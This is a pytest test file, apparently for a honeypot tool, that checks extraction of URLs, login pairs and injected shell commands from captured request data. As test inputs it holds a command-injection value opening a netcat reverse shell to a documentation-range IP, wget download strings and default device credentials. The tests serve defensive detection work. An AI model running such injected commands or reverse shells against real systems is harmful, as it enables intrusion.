"""Addresses, logins and commands inside other text are named."""

import pytest

from honeyguide.streams.embedded import commands, logins, pairs, unquoted, urls


def test_addresses_are_found_plain_and_quoted() -> None:
    assert urls(b"wget http://192.0.2.7/a.sh; curl https://example.org/b -o x") == ["http://192.0.2.7/a.sh", "https://example.org/b"]
    assert urls(b"x=wget%20http%3A%2F%2F192.0.2.7%2Fa") == ["http://192.0.2.7/a"]
    assert urls(b"tftp://192.0.2.7/m ldap://192.0.2.8:1389/a") == ["tftp://192.0.2.7/m", "ldap://192.0.2.8:1389/a"]
    assert urls(b"http:// nothing") == []


def test_forms_become_pairs() -> None:
    assert pairs(b"a=1&b=%41+c&d") == [("a", "1"), ("b", "A c")]
    assert unquoted(b"plain") == b"plain"


@pytest.mark.parametrize(
    ("form", "expected"),
    [
        (b"log=root&pwd=xc3511", [("root", "xc3511")]),
        (b"username=ec8&psd=ec8", [("ec8", "ec8")]),
        (b"pwd=only", []),
        (b"loginuse=&loginpas=", []),
        (b"user=a&pass=&user=b&pass=c", [("a", ""), ("b", "c")]),
    ],
)
def test_logins_need_a_name_and_a_secret(form: bytes, expected: list[tuple[str, str]]) -> None:
    assert logins(pairs(form)) == expected


def test_only_what_a_shell_is_meant_to_run_is_a_command() -> None:
    fields = [("svr", "$(nc 192.0.2.7 1245 -e /bin/sh)"), ("q", "a; b"), ("q", "curl manual"), ("c", "|| wget http://x/y")]
    assert commands(fields) == ["$(nc 192.0.2.7 1245 -e /bin/sh)", "|| wget http://x/y"]
